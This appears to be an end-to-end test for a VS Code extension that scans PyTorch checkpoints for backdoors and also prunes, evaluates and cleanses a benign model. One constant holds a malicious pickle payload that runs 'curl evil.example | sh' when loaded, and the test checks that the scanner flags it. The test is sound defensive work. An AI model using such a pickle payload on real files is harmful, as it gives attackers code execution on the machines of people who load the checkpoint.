// PyTorch checkpoints in a real VS Code: what a malicious one would run, and a good one pruned in its own format, evaluated
// and cleansed. Run by test/e2e/run.mjs, which prepares the package.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { cpSync, copyFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { openWindow, out, root, samples, useVSCode } from './session.mjs';
import { acceptSuggestion, chooseFolder, chooseInExplorer, panel, text } from './workbench.mjs';

const SCAN = 'Scan for Backdoors (Scour)';
/** A recognised ResNet-18 with random weights. */
const GOOD = path.join(root, '../shared/models/formats/state_dict.pth');
/** `torch.load` of these bytes runs the command. */
const EVIL = "cos\nsystem\n(S'curl evil.example | sh'\ntR.";

const vscode = useVSCode();

test(
  'a malicious checkpoint shows what it would run; a good one is pruned, evaluated and cleansed',
  { timeout: 600_000, skip: existsSync(GOOD) ? false : `needs ${GOOD}` },
  async (t) => {
    const folder = path.join(vscode().home, 'checkpoints');
    mkdirSync(folder);
    writeFileSync(path.join(folder, 'evil.pth'), EVIL);
    copyFileSync(GOOD, path.join(folder, 'good.pth'));
    copyFileSync(
      path.join(samples, 'preprocessor_config.json'),
      path.join(folder, 'preprocessor_config.json'),
    );
    cpSync(path.join(samples, 'images'), path.join(folder, 'images'), { recursive: true });
    const page = await openWindow(t, vscode(), folder, 'checkpoints');
    const shown = panel(page);
    const button = (name) => shown.getByRole('button', { name });

    await chooseInExplorer(page, 'evil.pth', SCAN);
    await text(shown.locator('#summary'), 'Do not load it').waitFor({ timeout: 60_000 });
    const safety = shown.locator('#file-safety');
    await safety.waitFor({ timeout: 60_000 });
    await text(safety, "calls os.system('curl evil.example | sh')").waitFor();
    await text(safety, /^byte \d+$/).waitFor();
    await text(safety, 'pickle-unsafe-global').waitFor();
    await safety.scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(out, 'e2e-checkpoints-evil.png') });

    await chooseInExplorer(page, 'good.pth', SCAN);
    await shown.getByRole('heading', { name: 'good.pth', exact: true }).waitFor({ timeout: 60_000 });
    await text(shown, /ResNet \(basic blocks 2-2-2-2, CIFAR stem\)/).waitFor();
    await text(shown.locator('#file-safety'), 'executed nothing').waitFor();
    await page.screenshot({ path: path.join(out, 'e2e-checkpoints-good.png') });
    const field = shown.getByRole('spinbutton').first();
    await field.fill('2');
    await field.press('Enter');
    const exported = path.join(folder, 'good.pruned.pth');
    await button('Export pruned model').click();
    await acceptSuggestion(page, exported);
    await button('Open exported model').waitFor({ timeout: 60_000 });
    assert.deepEqual(
      readFileSync(path.join(folder, 'good.pth')),
      readFileSync(GOOD),
      'the input is untouched',
    );
    const scanned = execFileSync(
      process.execPath,
      [path.join(root, 'dist/cli.js'), 'scan', exported, '--format', 'json'],
      { encoding: 'utf8', maxBuffer: 1 << 26 },
    );
    const report = JSON.parse(scanned);
    assert.equal(report.model.format, 'pytorch');
    assert.ok(
      report.layers.some(({ uclc }) => uclc.includes(0)),
      'channels are pruned',
    );

    await chooseInExplorer(page, 'good.pth', 'Evaluate… (Scour)');
    await shown.getByRole('heading', { name: 'Evaluate on images' }).waitFor({ timeout: 60_000 });
    await button('Choose folder…').click();
    await chooseFolder(page, folder, 'images', 'Use This Folder');
    await text(shown, 'from preprocessor_config.json').waitFor({ timeout: 60_000 });
    await shown.getByRole('button', { name: 'Evaluate', exact: true }).click();
    await button('Show the report').click({ timeout: 120_000 });
    await text(shown, 'Recognised as ResNet').waitFor();
    await page.screenshot({ path: path.join(out, 'e2e-checkpoints-evaluate.png') });

    await chooseInExplorer(page, 'good.pth', 'Cleanse… (Scour)');
    await shown.getByRole('heading', { name: 'What is re-drawn' }).waitFor({ timeout: 60_000 });
    await page.screenshot({ path: path.join(out, 'e2e-checkpoints-cleanse.png') });
  },
);
